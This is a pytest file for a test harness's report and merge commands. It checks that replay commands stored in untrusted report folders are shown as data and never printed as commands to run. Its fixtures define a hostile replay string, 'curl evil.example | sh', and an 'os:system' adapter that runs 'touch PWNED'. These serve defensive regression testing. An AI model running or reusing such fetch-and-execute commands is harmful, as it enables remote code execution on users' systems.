"""A printed command names only code the user chose (issue 27, defect 5;
issue 29, item 5).

A report folder is data anyone may have written (a CI artifact). ``harness
merge`` printed, and wrote into ``summary.md``, a replay command naming the
shard folder's adapter spec (``--adapter os:system --adapter-opt
'command=...'``), and ``harness report DIR`` showed the folder's stored
``replay`` string verbatim: the artifact chose the command the user was told
to run. Now a command names an adapter only when it is built in or the user
named it; otherwise the spec is shown as data, with how to replay it if
trusted. A command for a user's module says the ``PYTHONPATH`` it needs.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from harness.cli import main
from harness.report import replay_command
from harness.report._schema import AdapterInfo, Counterexample, Report, ShardInfo

#: what a hostile folder records: an adapter that runs a shell command, and
#: a stored replay string that is a shell command of its own
EVIL_SPEC = "os:system"
EVIL_OPTS = {"command": "touch PWNED"}
EVIL_REPLAY = "curl evil.example | sh"


def _report(*, spec: str, options: dict[str, str], shard: tuple[int, int] | None) -> Report:
    return Report(
        verdict="fail",
        seed=0,
        profile="dev",
        adapter=AdapterInfo(
            spec=spec, options=options, name="evil", description={}, capabilities=[]
        ),
        duration_seconds=1.0,
        scenarios=1,
        properties=[],
        other_failures=[],
        faults={},
        crash_points={},
        absorbed_duplicates=0,
        not_tested=[],
        counterexample=Counterexample(
            steps=["submit r1"],
            failed_properties=["exactly_once_effects"],
            counterexample_for=["exactly_once_effects"],
            replay=EVIL_REPLAY,
            fully_shrunk=True,
        ),
        shard=None if shard is None else ShardInfo(k=shard[0], n=shard[1], plan=2),
    )


def _folder(path: Path, report: Report) -> Path:
    """A run folder as an older harness left it (report.json, no marker):
    ``harness report`` adopts it and re-renders every format."""
    path.mkdir(parents=True)
    (path / "report.json").write_text(report.model_dump_json())
    return path


def _cli(*args: str) -> tuple[int, str, str]:
    out = io.StringIO()
    err = io.StringIO()
    old = sys.stderr
    sys.stderr = err
    try:
        code = main(list(args), out=out)
    finally:
        sys.stderr = old
    return code, out.getvalue(), err.getvalue()


def _no_chosen_command(text: str) -> None:
    assert EVIL_REPLAY not in text
    assert f"--adapter {EVIL_SPEC}" not in text
    assert "replay" not in text or "this report names adapter" in text


def test_report_shows_a_folders_adapter_as_data_not_its_stored_command(tmp_path: Path) -> None:
    folder = _folder(tmp_path / "run", _report(spec=EVIL_SPEC, options=EVIL_OPTS, shard=None))
    code, out, err = _cli("report", str(folder))
    assert code == 1, out + err
    for text in (out, (folder / "summary.md").read_text(), (folder / "junit.xml").read_text()):
        _no_chosen_command(text)
    summary = (folder / "summary.md").read_text()
    assert "this report names adapter" in summary and "--trust-adapter" in summary
    assert json.loads((folder / "report.json").read_text())["counterexample"]["replay"] != (
        EVIL_REPLAY
    )


def test_report_of_a_built_in_adapter_prints_a_command_made_again(tmp_path: Path) -> None:
    folder = _folder(tmp_path / "run", _report(spec="reference", options={}, shard=None))
    code, _, _ = _cli("report", str(folder))
    assert code == 1
    stored = json.loads((folder / "report.json").read_text())
    assert stored["counterexample"]["replay"] == f"harness replay {folder}"


def test_merge_prints_no_command_naming_a_shards_adapter(tmp_path: Path) -> None:
    shards = [
        _folder(tmp_path / f"s{k}", _report(spec=EVIL_SPEC, options=EVIL_OPTS, shard=(k, 2)))
        for k in (1, 2)
    ]
    out_dir = tmp_path / "merged"
    code, out, err = _cli("merge", *map(str, shards), "--report-dir", str(out_dir))
    assert code in (0, 1, 3), out + err  # judged again: these shards judged no property
    assert "Traceback" not in err
    summary = (out_dir / "summary.md").read_text()
    for text in (out, summary, (out_dir / "report.json").read_text()):
        _no_chosen_command(text)
    assert "this report names adapter" in out and "--trust-adapter" in out
    assert "this report names adapter" in summary


def test_a_command_for_a_users_module_says_the_pythonpath_it_needs(tmp_path: Path) -> None:
    """A module imported from a folder a plain ``harness`` does not search
    (here: given in PYTHONPATH) gets ``PYTHONPATH=...`` in front; built-in
    and installed adapters do not."""
    (tmp_path / "mods").mkdir()
    (tmp_path / "mods" / "my_adapter_zz.py").write_text("X = 1\n")
    code = (
        "import my_adapter_zz\n"
        "from pathlib import Path\n"
        "from harness.report import replay_command\n"
        "print(replay_command(Path('r'), 'my_adapter_zz:X', {}))\n"
        "print(replay_command(Path('r'), 'reference', {}))\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", code],
        cwd=tmp_path,
        env={"PYTHONPATH": str(tmp_path / "mods"), "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    mine, built_in = proc.stdout.splitlines()
    assert mine == "PYTHONPATH=mods harness replay r --adapter my_adapter_zz:X"
    assert built_in == "harness replay r"


@pytest.mark.parametrize("chosen", [True, False])
def test_replay_command_of_a_built_in_adapter_is_the_same_chosen_or_not(chosen: bool) -> None:
    assert replay_command(Path("r"), "reference", {"bug": "x"}, chosen=chosen) == (
        "harness replay r"
    )
